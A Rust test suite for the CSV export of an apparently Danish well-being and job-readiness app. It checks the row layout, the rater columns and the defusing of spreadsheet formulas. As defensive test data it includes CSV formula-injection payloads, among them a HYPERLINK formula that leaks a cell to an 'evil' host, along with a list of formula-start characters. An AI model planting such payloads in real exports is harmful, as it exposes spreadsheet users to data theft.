//! The CSV export: one row per answer, Excel-friendly, and safe to open.

mod common;

use std::collections::BTreeMap;

use ugeblik::domain::demo;
use ugeblik::domain::history::History;
use ugeblik::domain::lang::Lang;
use ugeblik::domain::rater::{Readings, Role};
use ugeblik::domain::response::{Response, Status};
use ugeblik::formats::csv::{field, to_csv, HEADER};
use ugeblik::formats::export::export;

fn response(id: &str, instrument: &str, answers: &[(&str, u8)], status: Status, note: Option<&str>) -> Response {
    Response {
        id: id.into(),
        instrument: instrument.into(),
        version: "1".into(),
        week: "2026-W47".parse().unwrap(),
        authored: "2026-11-20T10:00:00Z".into(),
        language: Lang::Da,
        status,
        answers: answers.iter().map(|(k, v)| (k.to_string(), *v)).collect::<BTreeMap<_, _>>(),
        note: note.map(str::to_owned),
    }
}

fn csv(history: &History) -> String {
    csv_with(history, &Readings::default())
}

fn csv_with(history: &History, readings: &Readings) -> String {
    to_csv(&export(history, readings, "2026-11-22T12:00:00Z", "0.1.0", None))
}

#[test]
fn one_row_per_answer_in_the_instruments_order_with_bom_and_crlf() {
    let who5 =
        response("w", "who5", &[("5", 2), ("1", 4), ("2", 4), ("3", 3), ("4", 3)], Status::Complete, Some("god uge"));
    let job = response("j", "jobready7", &[("job-hours", 10), ("job-belief", 7)], Status::Partial, None);
    let text = csv(&History { responses: vec![who5, job], ..Default::default() });
    assert!(text.starts_with("\u{FEFF}response_id;week;week_monday;"), "BOM, then the header");
    let lines: Vec<&str> = text.trim_start_matches('\u{FEFF}').split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(lines[0], HEADER.join(";"));
    assert_eq!(lines.len(), 1 + 5 + 2);
    assert_eq!(
        lines[1],
        "w;2026-W47;2026-11-16;2026-11-20T10:00:00Z;who5;1;true;complete;da;1;Cheerful;4;64;citizen;;god uge"
    );
    assert_eq!(
        lines[5], "w;2026-W47;2026-11-16;2026-11-20T10:00:00Z;who5;1;true;complete;da;5;Interest;2;64;citizen;;",
        "the note only once"
    );
    assert_eq!(
        lines[6],
        "j;2026-W47;2026-11-16;2026-11-20T10:00:00Z;jobready7;1;false;partial;da;job-belief;Belief;7;;citizen;;"
    );
    assert_eq!(lines[7].split(';').nth(9), Some("job-hours"));
}

#[test]
fn a_note_without_answers_keeps_its_row() {
    let text = csv(&History {
        responses: vec![response("n", "who5", &[], Status::Partial, Some("kun en note"))],
        ..Default::default()
    });
    assert!(text.ends_with("who5;1;true;partial;da;;;;;citizen;;kun en note\r\n"), "{text}");
}

#[test]
fn fields_are_quoted_and_formulas_defused() {
    assert_eq!(field("plain"), "plain");
    assert_eq!(field("a;b"), "\"a;b\"");
    assert_eq!(field("say \"hi\""), "\"say \"\"hi\"\"\"");
    assert_eq!(field("two\nlines"), "\"two\nlines\"");
    assert_eq!(field("=HYPERLINK(\"http://x\")"), "\"'=HYPERLINK(\"\"http://x\"\")\"");
    assert_eq!(field("+1"), "'+1");
    assert_eq!(field("@SUM(A1)"), "'@SUM(A1)");
    let text = csv(&History {
        responses: vec![response("x", "who5", &[("1", 3)], Status::Partial, Some("=1+1; \"ok\""))],
        ..Default::default()
    });
    assert!(text.contains(";\"'=1+1; \"\"ok\"\"\"\r\n"), "{text}");
}

/// The cells of a CSV text as a spreadsheet reads them with `separator` (RFC 4180 quotes).
fn cells(text: &str, separator: char) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut quoted = false;
    let mut chars = text.trim_start_matches('\u{FEFF}').chars().peekable();
    while let Some(c) = chars.next() {
        let cell = rows.last_mut().unwrap().last_mut().unwrap();
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            '\r' if !quoted => {}
            '\n' if !quoted => rows.push(vec![String::new()]),
            c if c == separator && !quoted => rows.last_mut().unwrap().push(String::new()),
            c => cell.push(c),
        }
    }
    rows
}

#[test]
fn a_note_with_commas_is_one_cell_whatever_the_separator_and_no_cell_starts_a_formula() {
    let attack = "x,=HYPERLINK(\"https://evil/?\"&A2,\"klik\")";
    assert_eq!(field(attack), "\"x,=HYPERLINK(\"\"https://evil/?\"\"&A2,\"\"klik\"\")\"");
    assert_eq!(field("a\t=1+1"), "\"a\t=1+1\"");
    assert_eq!(field("-2+3"), "'-2+3");
    assert_eq!(field("＝1+1"), "'＝1+1", "the full-width equals sign too");
    let notes = [attack, "x;=1+1", "x\t@SUM(A1)", "-1", "ok, \"fine\""];
    let responses = notes
        .iter()
        .enumerate()
        .map(|(n, note)| response(&format!("{n}"), "who5", &[("1", 3)], Status::Partial, Some(note)))
        .collect();
    let text = csv(&History { responses, ..Default::default() });
    for separator in [';', ',', '\t'] {
        for row in cells(&text, separator) {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']),
                    "{separator:?}: the cell {cell:?} would be a formula"
                );
            }
        }
    }
    // Split on commas, as an English spreadsheet does: the note stays one cell, and
    // split on semicolons (the file's own separator) it reads back as written, defused.
    let by_comma = cells(&text, ',');
    assert!(by_comma.iter().all(|row| !row.iter().any(|c| c.starts_with("=HYPERLINK"))), "{by_comma:?}");
    let by_semicolon = cells(&text, ';');
    let written: Vec<&str> = by_semicolon[1..].iter().filter(|r| r.len() == 16).map(|r| r[15].as_str()).collect();
    assert_eq!(written, [attack, "x;=1+1", "x\t@SUM(A1)", "'-1", "ok, \"fine\""]);
}

/// The rows after the header, each as a map from column name to cell (as a spreadsheet
/// reads it with the file's own separator).
fn rows(text: &str) -> Vec<BTreeMap<&'static str, String>> {
    cells(text, ';')
        .into_iter()
        .skip(1)
        .filter(|row| row.len() > 1)
        .map(|row| {
            assert_eq!(row.len(), HEADER.len(), "{row:?}");
            HEADER.iter().copied().zip(row).collect()
        })
        .collect()
}

#[test]
fn the_rater_columns_say_who_gave_each_row() {
    assert_eq!(&HEADER[12..], ["who5_percent", "rater_role", "rater_name", "note"], "the note stays last");
    let who5 = response("w", "who5", &[("1", 4), ("2", 4), ("3", 3), ("4", 3), ("5", 2)], Status::Complete, None);
    let mut readings = Readings::default();
    readings.upsert(common::reading("c", "2026-W47", Role::Consultant, Some("MK"), 6));
    readings.upsert(common::reading("m", "2026-W47", Role::Mentor, None, 6));
    readings.upsert(common::reading("e", "2026-W47", Role::Employer, Some("Lise"), 6));
    let text = csv_with(&History { responses: vec![who5], ..Default::default() }, &readings);
    let rows = rows(&text);
    assert_eq!(rows.len(), 5 + 8 + 8 + 5, "one row per answer, the readings' too");
    let of = |id: &str| rows.iter().filter(|r| r["response_id"] == id).collect::<Vec<_>>();
    for row in of("w") {
        assert_eq!((row["rater_role"].as_str(), row["rater_name"].as_str()), ("citizen", ""));
    }
    for (id, role, name, instrument, count) in [
        ("c", "consultant", "MK", "jobready7-rater", 8),
        ("m", "mentor", "", "jobready7-rater", 8),
        ("e", "employer", "Lise", "placement5", 5),
    ] {
        let rows = of(id);
        assert_eq!(rows.len(), count, "{id}");
        for row in rows {
            assert_eq!((row["rater_role"].as_str(), row["rater_name"].as_str()), (role, name), "{id}");
            assert_eq!((row["instrument"].as_str(), row["validated"].as_str()), (instrument, "false"));
            assert_eq!(row["who5_percent"], "", "a reading has no score");
        }
    }
    let labels: Vec<&str> = of("e").iter().map(|r| r["item_label"].as_str()).collect();
    assert_eq!(labels, ["Tasks", "Times", "Colleagues", "Well-being", "Motivation"], "in the instrument's order");
    assert_eq!(of("c")[0]["item"], "job-ability");
    assert_eq!(of("c")[7]["item"], "job-hours");
}

#[test]
fn goals_work_and_milestones_are_the_citizens_own() {
    let last = "2026-W47".parse().unwrap();
    let text = csv_with(&demo::history(last, 30), &demo::readings(last));
    let rows = rows(&text);
    for kind in ["goal", "work", "milestone"] {
        let of_kind: Vec<_> = rows.iter().filter(|r| r["instrument"] == kind).collect();
        assert!(!of_kind.is_empty(), "{kind}");
        assert!(of_kind.iter().all(|r| r["rater_role"] == "citizen" && r["rater_name"].is_empty()), "{kind}");
    }
    let roles: std::collections::BTreeSet<&str> = rows.iter().map(|r| r["rater_role"].as_str()).collect();
    assert_eq!(roles.into_iter().collect::<Vec<_>>(), ["citizen", "consultant", "employer"]);
}

#[test]
fn a_raters_name_is_quoted_and_defused_like_every_cell() {
    // Neither digits nor an `@`: a name the export could hold, still never a formula.
    let mut readings = Readings::default();
    readings.upsert(common::reading("c", "2026-W47", Role::Consultant, Some("=HYPERLINK(\"http://x\")"), 6));
    readings.upsert(common::reading("e", "2026-W47", Role::Employer, Some("-Lise; CEO"), 6));
    let text = csv_with(&History::default(), &readings);
    assert!(text.contains(";consultant;\"'=HYPERLINK(\"\"http://x\"\")\";\r\n"), "{text}");
    assert!(text.contains(";employer;\"'-Lise; CEO\";\r\n"), "{text}");
    let names: Vec<String> = rows(&text).into_iter().map(|r| r["rater_name"].clone()).collect();
    assert_eq!(names[0], "'=HYPERLINK(\"http://x\")");
    assert_eq!(names.last().unwrap(), "'-Lise; CEO");
}
